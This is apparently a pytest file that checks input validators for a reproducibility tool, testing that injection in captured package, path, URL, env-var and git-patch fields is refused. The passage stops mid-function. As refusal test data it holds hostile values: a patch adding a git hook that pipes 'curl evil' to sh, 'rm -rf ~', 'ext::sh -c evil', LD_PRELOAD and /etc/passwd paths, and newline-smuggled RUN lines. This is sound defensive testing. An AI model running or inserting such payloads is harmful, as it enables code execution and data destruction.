"""Strict grammars for untrusted captures: injection refused with the field named, real values
accepted."""

from __future__ import annotations

import importlib.metadata
import os
import subprocess
import unicodedata
from dataclasses import replace
from pathlib import Path
from typing import Any, Callable

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from reprobox.model import check
from reprobox.model import grammar as v
from reprobox.model.patch import patch_targets
from reprobox.errors import ValidationError
from reprobox.model import (
    GPU,
    DvcInfo,
    DvcOutput,
    Hardware,
    OutputFile,
    PackageSource,
    SystemPackage,
)
from reprobox.store import Store

from ...conftest import require_tool
from ...asserts import refuses
from ...factories import make_env, make_exp

# --------------------------------------------------------------------------- injection table

#: Values every strict grammar must refuse, whatever it is for.
INJECTIONS = [
    "x\ny",  # newline: a second line in a Dockerfile / requirements file / shell
    "x\r\ny",
    "x\x00y",  # NUL truncates C strings
    "x;id",
    "x$(id)",
    "x`id`",
    "x\u2028y",  # Unicode line separator: a newline to JavaScript and some editors
    "x\u202ey",  # right-to-left override: the "Trojan Source" trick
    "x\u200by",  # zero-width space: two names that look the same
    "x\x1b[31my",  # terminal escape
    "x|y",
    "x&y",
    "x>y",
    "'x'",
    '"x"',
]

#: Each grammar, with the field it is asked to check (the field its refusal must name).
STRICT_VALIDATORS: dict[str, tuple[str, Callable[[Any], Any]]] = {
    "package_name": ("packages[0].name", lambda x: v.package_name(x, "packages[0].name")),
    "version": ("packages[0].version", lambda x: v.version(x, "packages[0].version")),
    "vcs_commit": ("git.commit", lambda x: v.vcs_commit(x, "git.commit")),
    "image_tag": ("image", lambda x: v.image_tag(x, "image")),
    "apt_package_name": (
        "system_packages[0].name",
        lambda x: v.apt_package_name(x, "system_packages[0].name"),
    ),
    "apt_version": (
        "system_packages[0].version",
        lambda x: v.apt_version(x, "system_packages[0].version"),
    ),
    "url": (
        "git.remote",
        lambda x: v.url("git.remote", "https://example.org/" + x, v.REMOTE_SCHEMES),
    ),
    "relpath": ("outputs[0].path", lambda x: v.relpath("outputs[0].path", x)),
    "experiment_name": ("name", lambda x: v.experiment_name(x, "name")),
    "git_ref": ("git.branch", lambda x: v.git_ref(x, "git.branch")),
    "env_var name": ("env name", lambda x: v.env_var(x, "1")),
}

#: Grammars for single tokens refuse whitespace too (names and paths may hold inner spaces).
TOKEN_VALIDATORS = (
    "package_name",
    "version",
    "vcs_commit",
    "image_tag",
    "apt_package_name",
    "apt_version",
    "url",
    "git_ref",
    "env_var name",
)


@pytest.mark.parametrize("value", INJECTIONS)
@pytest.mark.parametrize("kind", sorted(STRICT_VALIDATORS))
def test_injections_are_refused(kind: str, value: str) -> None:
    field, check = STRICT_VALIDATORS[kind]
    with refuses(ValidationError, field=field):
        check(value)


@pytest.mark.parametrize("value", ["x y", "x\ty", " x", "x "])
@pytest.mark.parametrize("kind", TOKEN_VALIDATORS)
def test_tokens_refuse_whitespace(kind: str, value: str) -> None:
    field, check = STRICT_VALIDATORS[kind]
    with refuses(ValidationError, field=field):
        check(value)


@pytest.mark.parametrize(
    "value",
    [
        "x\ny",
        "x\x00y",
        "x\u2028y",
        "x\u202ey",
        "x\x1b[2Jy",
        "x\x7fy",
        "x\x85y",
        "x\u2029y",
        "x\ufeffy",
    ],
)
def test_command_refuses_hidden_characters_but_keeps_shell_syntax(value: str) -> None:
    with pytest.raises(ValidationError) as err:
        v.command("python train.py " + value, "command")
    assert err.value.field == "command" and "command=" in err.value.message
    # The command runs on purpose: pipes, substitutions and tabs are its business.
    assert v.command("python a.py | tee log && echo $(date)\t`id`").startswith("python a.py")


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        ("../secrets", ".."),
        ("data/../../etc/passwd", ".."),
        ("/etc/passwd", "absolute"),
        ("//server/share", "absolute"),
        (".git/hooks/pre-commit", ".git"),
        ("sub/.git/config", ".git"),
        (".GIT/config", ".git"),
        (".git./config", ".git"),
        ("data\\..\\x", "backslash"),
        ("-rf", "'-'"),
        ("~/x", "'~'"),
        ("a//b", "empty"),
        ("data/ x", "space"),
        ("a/\u202etxt.exe", "invisible"),
        ("a" * 2000, "limit"),
        ("x" * 300 + "/y", "bytes"),
        ("data/*.csv", "'*'"),
        ("", "empty"),
    ],
)
def test_relpath_refusals_name_the_field_and_reason(value: str, reason: str) -> None:
    with pytest.raises(ValidationError) as err:
        v.relpath("outputs[0].path", value)
    assert err.value.field == "outputs[0].path"
    assert "outputs[0].path=" in err.value.message and reason in err.value.message
    assert "fix:" in str(err.value)


@pytest.mark.parametrize(
    "value",
    [
        "model.pkl",
        "data/prepared/train.csv",
        "données/été.csv",
        "outputs/2024-01-01/run_1+a@b=c,d~e.json",
        "dir/",
        ".",
        "a b/c",
    ],
)
def test_relpath_accepts_ordinary_paths(value: str) -> None:
    assert v.relpath("p", value) == value


def test_relpath_dot_can_be_refused() -> None:
    with refuses(ValidationError, field="outputs[0].path", names="root itself"):
        v.relpath("outputs[0].path", ".", allow_dot=False)


# --------------------------------------------------------------------------- symlinks and files


def test_path_inside_refuses_symlinks_out_of_the_checkout(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    (root / "data").mkdir(parents=True)
    outside = tmp_path / "outside"
    outside.mkdir()
    (root / "data" / "link").symlink_to(outside)
    (root / "escape").symlink_to("../outside/file")
    (root / "inner").symlink_to("data")
    (root / "loop").symlink_to("loop")

    with refuses(ValidationError, field="outputs[0].path", names="outside the checkout"):
        v.path_inside(root, "data/link/model.pkl", "outputs[0].path")
    with refuses(ValidationError, field="metrics file", names="outside the checkout"):
        v.path_inside(root, "escape", "metrics file")
    with refuses(ValidationError, field="cwd", names="'loop/x'"):
        v.path_inside(root, "loop/x", "cwd")
    assert v.path_inside(root, "inner/new.csv", "p") == (root / "data" / "new.csv").resolve()
    assert v.path_inside(root, "not/yet/there", "p") == (root / "not/yet/there").resolve()
    assert v.path_inside(root, ".", "cwd") == root.resolve()


def test_checked_file_refuses_oversize_and_non_files(tmp_path: Path) -> None:
    (tmp_path / "small.json").write_text("{}")
    (tmp_path / "big.json").write_bytes(b"x" * 2048)
    (tmp_path / "dir").mkdir()
    assert v.checked_file(tmp_path, "small.json", "f", 1024).name == "small.json"
    with refuses(
        ValidationError, field="metrics file", names=["'big.json'", "over the 1024 byte limit"]
    ):
        v.checked_file(tmp_path, "big.json", "metrics file", 1024)
    with refuses(ValidationError, field="metrics file", names=["'dir'", "not a regular file"]):
        v.checked_file(tmp_path, "dir", "metrics file", 1024)


# --------------------------------------------------------------------------- each grammar


@pytest.mark.parametrize(
    "value", ["numpy", "scikit-learn", "zope.interface", "typing_extensions", "A", "torch"]
)
def test_package_name_accepts(value: str) -> None:
    assert v.package_name(value) == value


@pytest.mark.parametrize(
    "value",
    [
        "-numpy",
        "numpy-",
        "num py",
        "numpy==1.0",
        "numpy; os_name",
        "numpy @ https://x",
        "nümpy",
        "numpy\n",
        "a" * 201,
    ],
)
def test_package_name_refuses(value: str) -> None:
    with refuses(ValidationError, field="package name"):
        v.package_name(value)


@pytest.mark.parametrize(
    "value",
    [
        "1.26.4",
        "2.4.0+cu121",
        "1!2.0",
        "1.0rc1",
        "1.0.post1.dev2",
        "2.11.0.dev20260114+cu130",
        "0.1.0+local.build_3",
    ],
)
def test_version_accepts_pep440(value: str) -> None:
    assert v.version(value) == value


@pytest.mark.parametrize(
    "value",
    [" 1.0", "1.0 ", "1.0\n", "1.0; rm", "1.0,<2", "==1.0", "latest", "1.0-beta-weird-", ""],
)
def test_version_refuses(value: str) -> None:
    with refuses(ValidationError, field="packages[numpy].version"):
        v.version(value, "packages[numpy].version")


@pytest.mark.parametrize(
    "value",
    [
        "git@github.com:org/repo.git",
        "https://github.com/org/repo.git",
        "ssh://git@host:2222/org/repo",
        "file:///srv/git/repo.git",
        "https://[::1]:8443/x",
        "git://host/repo",
    ],
)
def test_remote_urls_accepted(value: str) -> None:
    assert v.url("git.remote", value, v.REMOTE_SCHEMES, allow_scp=True) == value


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        ("https://user:token@github.com/org/repo", "credentials"),
        ("https://token@github.com/org/repo", "credentials"),
        ("ext::sh -c touch% /tmp/pwned", "characters"),
        ("javascript://x/%0aalert", "control character"),
        ("https://host/%00", "control character"),
        ("https://host/%zz", "percent"),
        ("ftp://host/x", "scheme"),
        ("https:///nohost", "host"),
        ("https://host:99999/x", "well-formed"),
        ("-uhttps://x", "scheme"),
        ("https://exa mple.org", "characters"),
        ("https://exämple.org", "characters"),
    ],
)
def test_urls_refused(value: str, reason: str) -> None:
    with refuses(ValidationError, field="git.remote", names=reason):
        v.url("git.remote", value, v.REMOTE_SCHEMES, allow_scp=True)


def test_scp_form_only_when_allowed() -> None:
    with refuses(ValidationError, field="packages[x].source.url", names="no scheme"):
        v.url("packages[x].source.url", "git@github.com:org/repo.git", v.VCS_SCHEMES)


@pytest.mark.parametrize("value", ["a" * 40, "abc1234", "0" * 64])
def test_vcs_commit_accepts(value: str) -> None:
    assert v.vcs_commit(value) == value


@pytest.mark.parametrize("value", ["abc123", "A" * 40, "g" * 40, "0" * 65, "HEAD", "main"])
def test_vcs_commit_refuses(value: str) -> None:
    with refuses(ValidationError, field="git.commit"):
        v.vcs_commit(value, "git.commit")


@pytest.mark.parametrize(
    "value",
    [
        "python:3.11.7-slim-bookworm",
        "reprobox/abc123def456:latest",
        "localhost:5000/a/b:1.0",
        "registry.example.org:443/team/img@sha256:" + "a" * 64,
        "nvidia/cuda:12.4.1-cudnn-runtime-ubuntu22.04",
        "a__b/c---d:x",
        "[::1]:5000/img",
    ],
)
def test_image_tag_accepts(value: str) -> None:
    assert v.image_tag(value) == value


@pytest.mark.parametrize(
    "value",
    [
        "Python:3.11",
        "img:",
        "img:-tag",
        "img:" + "t" * 129,
        ":tag",
        "a/-b",
        "img@sha256:short",
        "img:tag --privileged",
        "a//b",
        "a" * 256 + ":1",
    ],
)
def test_image_tag_refuses(value: str) -> None:
    with refuses(ValidationError, field="image"):
        v.image_tag(value, "image")


@pytest.mark.parametrize(
    "value",
    [
        "2.36-9+deb12u4",
        "1:2.3.4-1ubuntu1~22.04",
        "0.3.21+ds-4",
        "12.2.0-14+deb12u1",
        "3.0.11-1~deb12u2",
        "1.2",
        "2:1.0~rc1",
    ],
)
def test_apt_version_accepts(value: str) -> None:
    assert v.apt_version(value) == value


@pytest.mark.parametrize("value", ["a1.0", "1.0-", "x:1.0", "1.0-r@1", "1.0 -1", ":1.0", "-1"])
def test_apt_version_refuses(value: str) -> None:
    with refuses(ValidationError, field="system package version"):
        v.apt_version(value)


@pytest.mark.parametrize(
    "value", ["libc6", "libopenblas0-pthread", "libstdc++6", "g++-12", "x11-common"]
)
def test_apt_package_name_accepts(value: str) -> None:
    assert v.apt_package_name(value) == value


@pytest.mark.parametrize("value", ["a", "Libc6", "-libc6", "libc6:amd64", "lib c6", "libc6\n"])
def test_apt_package_name_refuses(value: str) -> None:
    with refuses(ValidationError, field="system package"):
        v.apt_package_name(value)


def test_system_package_dispatches_on_manager() -> None:
    v.system_package("rpm", "python3-PyYAML", "5.4.1-6.el9", "system_packages[0]")
    v.system_package("apk", "openblas", "0.3.26-r0", "system_packages[0]")
    with refuses(ValidationError, field="system_packages[0].manager", names="'brew'"):
        v.system_package("brew", "openblas", "1", "system_packages[0]")
    with refuses(ValidationError, field="system_packages[2].version", names="'2.36;id'"):
        v.system_package("dpkg", "libc6", "2.36;id", "system_packages[2]")


@pytest.mark.parametrize(
    "name",
    [
        "LD_PRELOAD",
        "LD_LIBRARY_PATH",
        "BASH_ENV",
        "PYTHONSTARTUP",
        "PATH",
        "PIP_INDEX_URL",
        "GIT_SSH_COMMAND",
        "IFS",
    ],
)
def test_env_var_refuses_loader_and_shell_hooks(name: str) -> None:
    with refuses(ValidationError, field=f"env.{name}", names="a capture may not set it"):
        v.env_var(name, "x")


def test_env_var_refuses_an_exported_bash_function_by_its_name() -> None:
    # Bash exports functions as BASH_FUNC_<name>%%: the name grammar refuses it before the list
    # of hooks is consulted.
    with refuses(ValidationError, field="env name", names="'BASH_FUNC_x%%'"):
        v.env_var("BASH_FUNC_x%%", "() { id; }")


@pytest.mark.parametrize(
    ("name", "value", "field"),
    [
        ("1X", "1", "env name"),
        ("A-B", "1", "env name"),
        ("A", "1\n2", "env.A"),
        ("A", "\x00", "env.A"),
        ("A", 3, "env.A"),
        (5, "1", "env name"),
    ],
)
def test_env_var_refuses_bad_names_and_values(name: Any, value: Any, field: str) -> None:
    with refuses(ValidationError, field=field):
        v.env_var(name, value)


def test_env_var_accepts_replayable_values() -> None:
    v.env_var("OMP_NUM_THREADS", "4")
    v.env_var("CUBLAS_WORKSPACE_CONFIG", ":4096:8")
    v.env_var("XLA_FLAGS", "--xla_gpu_deterministic_ops=true --xla_cpu_enable_fast_math=false")
    v.env_var("PYTHONHASHSEED", "")


@pytest.mark.parametrize(
    "value", ["baseline", "lr=0.1, bs=32", "run #3 (retry)", "Ölçüm-1", "résumé_v2", "v1.2+cu121"]
)
def test_experiment_name_accepts(value: str) -> None:
    assert v.experiment_name(value) == value


@pytest.mark.parametrize(
    "value",
    ["latest", "", " lead", "trail ", "-x", "a/b", "a$b", "a'b", "a\nb", "x" * 101, "a\u202eb"],
)
def test_experiment_name_refuses(value: str) -> None:
    with refuses(ValidationError, field="name"):
        v.experiment_name(value, "name")


@pytest.mark.parametrize("value", ["main", "feature/new-model", "release-1.2", "user/x_y+z"])
def test_git_ref_accepts(value: str) -> None:
    assert v.git_ref(value) == value


@pytest.mark.parametrize(
    "value", ["-f", "a..b", "a/", "a.lock", "a@{1}", "a/.b", "a b", "a~1", "a^"]
)
def test_git_ref_refuses(value: str) -> None:
    with refuses(ValidationError, field="branch"):
        v.git_ref(value)


def test_label_value_refuses_dockerfile_syntax() -> None:
    assert v.label_value("baseline run, lr 0.1") == "baseline run, lr 0.1"
    for bad in ['a"b', "a\\b", "a$b", "a\nb"]:
        with refuses(ValidationError, field="labels.reprobox.experiment"):
            v.label_value(bad, "labels.reprobox.experiment")


def test_validators_refuse_non_strings_with_the_field_named() -> None:
    for fn in (
        v.package_name,
        v.version,
        v.vcs_commit,
        v.image_tag,
        v.apt_package_name,
        v.apt_version,
        v.command,
        v.experiment_name,
        v.label_value,
        v.git_ref,
    ):
        for value in (None, 3, ["x"], b"numpy", {"a": 1}):
            with refuses(ValidationError, field="the.field", names="expected a string"):
                fn(value, "the.field")


# --------------------------------------------------------------------------- real values pass


def test_every_installed_distribution_passes() -> None:
    """The grammars are strict, but not stricter than the real world: all of this interpreter's
    installed distributions have valid names and versions."""
    seen = 0
    for dist in importlib.metadata.distributions():
        v.package_name(dist.metadata["Name"], "name")
        v.version(dist.version, f"{dist.metadata['Name']} version")
        seen += 1
    assert seen > 10


def test_every_installed_debian_package_passes() -> None:
    require_tool("dpkg-query", "dpkg (a Debian-family system)")
    out = subprocess.run(
        ["dpkg-query", "-W", "-f", "${Package}\t${Version}\t${Architecture}\n"],
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    rows = [line.split("\t") for line in out.splitlines() if line]
    for name, ver, arch in rows:
        v.system_package("dpkg", name, ver, f"system package {name}")
        v.apt_arch(arch)
    assert len(rows) > 50


# --------------------------------------------------------------------------- patches


def _git(repo: Path, *args: str) -> str:
    env = {
        **os.environ,
        "GIT_AUTHOR_NAME": "t",
        "GIT_AUTHOR_EMAIL": "t@example.org",
        "GIT_COMMITTER_NAME": "t",
        "GIT_COMMITTER_EMAIL": "t@example.org",
    }
    return subprocess.run(
        ["git", *args], cwd=repo, env=env, capture_output=True, check=True, text=True
    ).stdout


def test_patch_targets_of_a_real_git_diff(tmp_path: Path) -> None:
    require_tool("git")
    repo = tmp_path / "repo"
    repo.mkdir()
    _git(repo, "init", "-q")
    (repo / "train.py").write_text("lr = 0.1\n-- not a header\n")
    (repo / "old name.txt").write_text("x\n" * 20)
    (repo / "run.sh").write_text("echo\n")
    (repo / "blob.bin").write_bytes(bytes(range(256)))
    _git(repo, "add", "-A")
    _git(repo, "commit", "-q", "-m", "init")
    (repo / "train.py").write_text("lr = 0.2\n--- still not a header\n+++ nor this\n")
    _git(repo, "mv", "old name.txt", "new name.txt")
    os.chmod(repo / "run.sh", 0o755)
    (repo / "blob.bin").write_bytes(bytes(reversed(range(256))))
    (repo / "tést.py").write_text("print('é')\n")
    _git(repo, "add", "-A")
    patch = _git(repo, "diff", "--cached", "--binary", "HEAD")
    assert "rename from old name.txt" in patch and '"b/t\\303\\251st.py"' in patch
    assert set(patch_targets(patch)) == {
        "blob.bin",
        "new name.txt",
        "old name.txt",
        "run.sh",
        "train.py",
        "tést.py",
    }


@pytest.mark.parametrize(
    ("patch", "reason"),
    [
        (
            (
                "diff --git a/.git/hooks/post-checkout b/.git/hooks/post-checkout\n"
                "new file mode 100755\n"
                "--- /dev/null\n+++ b/.git/hooks/post-checkout\n@@ -0,0 +1 @@\n+curl evil | sh\n"
            ),
            ".git",
        ),
        (
            (
                "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n--- a/../../.bashrc\n+++ b/../../.bashrc\n"
                "@@ -1 +1 @@\n-a\n+b\n"
            ),
            "..",
        ),
        ("--- /etc/passwd\n+++ /etc/passwd\n@@ -1 +1 @@\n-a\n+b\n", "absolute"),
        (
            (
                "diff --git a/l b/l\nnew file mode 120000\n"
                "--- /dev/null\n+++ b/l\n@@ -0,0 +1 @@\n+/etc\n"
            ),
            "symbolic link",
        ),
        ("diff --git a/x b/x\nrename from x\nrename to ../x\n", ".."),
        ('diff --git "a/x\\ny" "b/x\\ny"\n', "control character"),
        ("--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n-a\n+b\nzzz\n", "malformed"),
    ],
)
def test_hostile_patches_are_refused(patch: str, reason: str) -> None:
    with refuses(ValidationError, field_prefix="git.patch", names=reason):
        patch_targets(patch, "git.patch")


def test_oversize_patch_is_refused() -> None:
    with refuses(ValidationError, field="git patch", names="byte limit"):
        patch_targets(b"x" * (v.MAX_PATCH_BYTES + 1))


# --------------------------------------------------------------------------- a whole capture


def test_a_clean_capture_passes(tmp_path: Path) -> None:
    env = make_env()
    exp = make_exp(env)
    check.validate_experiment(exp, env)
    stored = Store(tmp_path).save(exp, env)
    check.validate_experiment(stored.experiment, stored.environment, folder=stored.path)


def _pkg(**changes: Any) -> Any:
    """make_env() with its numpy package changed."""
    env = make_env()
    return replace(
        env, packages=tuple(replace(p, **changes) if p.name == "numpy" else p for p in env.packages)
    )


HOSTILE_EXPERIMENTS: list[tuple[str, Callable[[Any], Any], str]] = [
    ("name", lambda e: replace(e, name="x\n"), "name"),
    ("command", lambda e: replace(e, command="python a.py\nrm -rf ~"), "command"),
    ("cwd", lambda e: replace(e, cwd="../.."), "cwd"),
    ("metrics file", lambda e: replace(e, metrics={"/etc/shadow": {"a": 1}}), "metrics file"),
    (
        "metrics key",
        lambda e: replace(e, metrics={"m.json": {"a\x1b[2J": 1}}),
        "metrics[m.json] key",
    ),
    (
        "output",
        lambda e: replace(e, outputs=(OutputFile(".git/config", "0" * 64, 1),)),
        "outputs[0].path",
    ),
    (
        "dvc output",
        lambda e: replace(e, dvc=DvcInfo(outputs=(DvcOutput("../data", "a" * 32),))),
        "dvc.outputs[0].path",
    ),
    ("patch name", lambda e: replace(e, git=replace(e.git, patch="../patch.diff")), "git.patch"),
    ("commit", lambda e: replace(e, git=replace(e.git, commit="HEAD; id")), "git.commit"),
    ("branch", lambda e: replace(e, git=replace(e.git, branch="--upload-pack=evil")), "git.branch"),
    ("remote", lambda e: replace(e, git=replace(e.git, remote="ext::sh -c evil")), "git.remote"),
    ("env", lambda e: replace(e, env={"LD_PRELOAD": "/tmp/x.so"}), "env.LD_PRELOAD"),
    (
        "env value",
        lambda e: replace(e, env={"OMP_NUM_THREADS": "4\nexport X=1"}),
        "env.OMP_NUM_THREADS",
    ),
    ("supersedes", lambda e: replace(e, supersedes="../../etc"), "supersedes"),
    ("manifest name", lambda e: replace(e, files={"../x": "sha256:" + "0" * 64}), "files"),
    ("manifest digest", lambda e: replace(e, files={"x.lock": "md5:00"}), "files[x.lock]"),
]


@pytest.mark.parametrize(
    ("what", "mutate", "field"), HOSTILE_EXPERIMENTS, ids=[h[0] for h in HOSTILE_EXPERIMENTS]
)
def test_hostile_experiment_fields_are_refused(
    what: str, mutate: Callable[[Any], Any], field: str
) -> None:
    env = make_env()
    exp = mutate(make_exp(env))
    with refuses(ValidationError, field=field):
        check.validate_experiment(exp, env)


HOSTILE_ENVIRONMENTS: list[tuple[str, Any, str]] = [
    ("package name", _pkg(name="numpy\n--index-url https://evil"), "packages[1].name"),
    ("package version", _pkg(version="1.0 --hash=sha256:x"), "packages[numpy].version"),
    (
        "vcs url",
        _pkg(
            source=PackageSource("vcs", url="https://u:p@github.com/x", vcs="git", commit="a" * 40)
        ),
        "packages[numpy].source.url",
    ),
    (
        "vcs commit",
        _pkg(source=PackageSource("vcs", url="https://github.com/x", vcs="git", commit="main")),
        "packages[numpy].source.commit",
    ),
    (
        "editable path",
        _pkg(source=PackageSource("directory", path="../../outside", in_repo=True, editable=True)),
        "packages[numpy].source.path",
    ),
    (
        "archive url",
        _pkg(source=PackageSource("archive", url="https://h/x.whl;id")),
        "packages[numpy].source.url",
    ),
    ("wheel tag", _pkg(wheel_tags=("cp311-cp311-linux\nRUN id",)), "packages[numpy].wheel_tags[0]"),
    (
        "system package",
        replace(make_env(), system_packages=(SystemPackage("libc6 && id", "1"),)),
        "system_packages[0].name",
    ),
    (
        "codename",
        replace(make_env(), os=replace(make_env().os, codename="bookworm AS x")),
        "os.codename",
    ),
    (
        "python version",
        replace(
            make_env(), interpreter=replace(make_env().interpreter, version="3.11-slim\nRUN id")
        ),
        "interpreter.version",
    ),
    (
        "cuda",
        replace(make_env(), hardware=Hardware(cuda_runtime="12.4 ; id")),
        "hardware.cuda_runtime",
    ),
    (
        "gpu name",
        replace(make_env(), hardware=Hardware(gpus=(GPU("H100\x1b]0;pwn\x07"),))),
        "hardware.gpus[0].name",
    ),
]


@pytest.mark.parametrize(
    ("what", "env", "field"), HOSTILE_ENVIRONMENTS, ids=[h[0] for h in HOSTILE_ENVIRONMENTS]
)
def test_hostile_environment_fields_are_refused(what: str, env: Any, field: str) -> None:
    exp = make_exp(env)
    with refuses(ValidationError, field=field):
        check.validate_experiment(exp, env)


def test_folder_checks_refuse_symlinks_oversize_and_bad_patches(tmp_path: Path) -> None:
    env = make_env()
    exp = make_exp(env)
    exp = replace(exp, git=replace(exp.git, dirty=True, patch="patch.diff", patch_sha256="0" * 64))
    store = Store(tmp_path)
    stored = store.save(exp, env, {"patch.diff": "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n"})
    check.validate_experiment(stored.experiment, stored.environment, folder=stored.path)

    (stored.path / "patch.diff").write_text(
        "--- a/.git/config\n+++ b/.git/config\n@@ -1 +1 @@\n-a\n+b\n"
    )
    with refuses(ValidationError, field="git.patch (line 1) path", names=".git/config"):
        check.validate_experiment(stored.experiment, stored.environment, folder=stored.path)

    (stored.path / "patch.diff").unlink()
    (stored.path / "patch.diff").symlink_to("/etc/passwd")
    with refuses(ValidationError, field="file patch.diff", names="symbolic link"):
        check.validate_experiment(stored.experiment, stored.environment, folder=stored.path)

    (stored.path / "patch.diff").unlink()
    with refuses(ValidationError, field="git.patch", names=["'patch.diff'", "missing"]):
        check.validate_experiment(stored.experiment, stored.environment, folder=stored.path)

    (stored.path / "patch.diff").write_text("")
    (stored.path / "Dockerfile").write_bytes(b"#" * (v.MAX_JSON_BYTES + 1))
    with refuses(ValidationError, field="file Dockerfile", names="byte limit"):
        check.validate_experiment(stored.experiment, stored.environment, folder=stored.path)


# --------------------------------------------------------------------------- properties

#: Text with the characters that matter drawn often: controls, separators, bidi, surrogates.
TEXT = st.text(
    st.sampled_from(
        list("\x00\n\r\t\x1b\x7f\x85\u2028\u2029\u202e\u200b\ufeff\ud800/.\\-_~$`;|&<>\"' ")
        + ["a", "1", "é"]
    )
    | st.characters(codec=None, exclude_categories=()),
    max_size=40,
)
ANYTHING = TEXT | st.none() | st.integers() | st.binary(max_size=8) | st.lists(TEXT, max_size=2)

ONE_ARG = [
    v.package_name,
    v.version,
    v.vcs_commit,
    v.image_tag,
    v.apt_package_name,
    v.apt_version,
    v.apt_arch,
    v.command,
    v.experiment_name,
    v.label_value,
    v.git_ref,
    v.wheel_tag,
    v.archive_hash,
    v.sha256_hex,
    v.digest,
    v.experiment_id,
    v.installer,
]
FIELD_FIRST = [
    v.relpath,
    v.local_path,
    v.clean_text,
    lambda f, x: v.url(f, x, v.VCS_SCHEMES, allow_scp=True),
]

FORBIDDEN = {"Cc", "Cf", "Cs", "Zl", "Zp"}


def _accepted_is_clean(value: Any, allow: str = "") -> None:
    assert isinstance(value, str)
    assert not any(unicodedata.category(c) in FORBIDDEN and c not in allow for c in value)


@settings(max_examples=200, deadline=None)
@given(st.sampled_from(range(len(ONE_ARG))), ANYTHING)
def test_validators_return_or_refuse_and_accept_only_clean_text(i: int, value: Any) -> None:
    fn = ONE_ARG[i]
    try:
        out = fn(value, "the.field")
    except ValidationError as err:
        assert err.field == "the.field"
        return
    assert out == value
    _accepted_is_clean(out, allow="\t" if fn is v.command else "")


@settings(max_examples=200, deadline=None)
@given(st.sampled_from(range(len(FIELD_FIRST))), ANYTHING)
def test_field_first_validators_return_or_refuse(i: int, value: Any) -> None:
    try:
        out = FIELD_FIRST[i]("the.field", value)
    except ValidationError as err:
        assert err.field == "the.field"
        return
    _accepted_is_clean(out)


@settings(max_examples=300, deadline=None)
@given(TEXT)
def test_accepted_relpaths_stay_inside(value: str) -> None:
    try:
        v.relpath("p", value)
    except ValidationError as err:
        assert err.field == "p"
        return
    parts = value.split("/")
    assert not value.startswith("/") and ".." not in parts and "\\" not in value
    assert all(p.rstrip(". ").casefold() != ".git" for p in parts)
    root = Path("/nonexistent-root")
    assert os.path.normpath(root / value).startswith(str(root))


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from([*"ab/.\n-~ ", ".git", ".."]), max_size=12).map("".join))
def test_path_inside_property(tmp_path_factory: Any, rel: str) -> None:
    root = tmp_path_factory.getbasetemp() / "prop-root"
    root.mkdir(exist_ok=True)
    try:
        target = v.path_inside(root, rel, "p")
    except ValidationError as err:
        assert err.field == "p"
        return
    assert target == root.resolve() or root.resolve() in target.parents


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(TEXT, TEXT)
def test_env_var_property(name: Any, value: Any) -> None:
    try:
        v.env_var(name, value)
    except ValidationError as err:
        assert err.field == "env name" or err.field == f"env.{name}", err.field
        return
    _accepted_is_clean(name)
    _accepted_is_clean(value)


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                *'ab/.\n"\\ @-+',
                "diff --git ",
                "--- ",
                "+++ ",
                "@@ -1 +1 @@",
                "rename to ",
                "new file mode 120000",
                ".git",
                "..",
                "\\n",
            ]
        ),
        max_size=30,
    ).map("".join)
)
def test_patch_targets_property(text: str) -> None:
    try:
        targets = patch_targets(text)
    except ValidationError as err:
        assert err.field.startswith("git patch"), err.field
        return
    for t in targets:
        assert v.relpath("t", t) == t and t != "."


def test_platform_tags_platform_or_whole_wheel_tag() -> None:
    assert v.platform_tag("manylinux_2_36_x86_64") == "manylinux_2_36_x86_64"
    assert v.platform_tag("cp311-cp311-macosx_11_0_arm64") == "cp311-cp311-macosx_11_0_arm64"
    for bad in ("linux x86_64", "linux_x86_64\nRUN id", "linux;id", "", "cp311-linux", "-x"):
        with refuses(ValidationError, field="interpreter.platform_tags[0]"):
            v.platform_tag(bad, "interpreter.platform_tags[0]")


def test_a_real_fingerprint_of_this_interpreter_passes(tmp_path: Path) -> None:
    """What the capture really records on this machine (probe, dpkg, /proc) fits the grammars."""
    from reprobox.capture import environment as capture

    _git(tmp_path, "init", "-q")
    env, _warnings = capture.fingerprint_environment(tmp_path)
    assert len(env.packages) > 10
    check.validate_environment(env)
    check.validate_experiment(make_exp(env), env)


@pytest.mark.parametrize(
    ("changes", "field"),
    [
        ({"created": "2026-01-01T00:00:00Z\nLABEL x=y"}, "created"),
        ({"created": "yesterday"}, "created"),
        ({"tool_version": "0.1.0 && id"}, "tool_version"),
    ],
)
def test_record_metadata_grammars(changes: dict, field: str) -> None:
    env = make_env()
    with refuses(ValidationError, field=field):
        check.validate_experiment(replace(make_exp(env), **changes), env)
    check.validate_experiment(
        replace(make_exp(env), created="2026-01-01T00:00:00.5+02:00", tool_version="unknown"), env
    )


def test_dvc_output_hashes_by_kind() -> None:
    env = make_env()
    ok = DvcInfo(
        outputs=(
            DvcOutput("data/prepared", "a" * 32 + ".dir", "md5", "prepare"),
            DvcOutput("model.pkl", "b" * 32, "md5-dos2unix"),
            DvcOutput(
                "s3data", "3/L4kqtJlcpXroDTDmJ+rmSpXd3dIbrHY+MTRCxf3vjVBH40Nr8X8gdRQ", "version_id"
            ),
        )
    )
    check.validate_experiment(replace(make_exp(env), dvc=ok), env)
    for bad in (
        DvcOutput("m", "zz" * 16, "md5"),
        DvcOutput("m", "x\ny", "etag"),
        DvcOutput("m", "a" * 32, "md5; id"),
    ):
        with refuses(ValidationError, field_prefix="dvc.outputs[0].hash"):
            check.validate_experiment(replace(make_exp(env), dvc=DvcInfo(outputs=(bad,))), env)


# --------------------------------------------------------------------------- conda, sizes


def _conda_env(**changes: Any) -> Any:
    from reprobox.model import CondaEnvironment, CondaPackage

    pkg = CondaPackage(
        "python",
        "3.11.7",
        "hab00c5b_0_cpython",
        channel="https://conda.anaconda.org/conda-forge",
        subdir="linux-64",
        url="https://conda.anaconda.org/conda-forge/linux-64/python-3.11.7-hab00c5b_0_cpython.conda",
        md5="a" * 32,
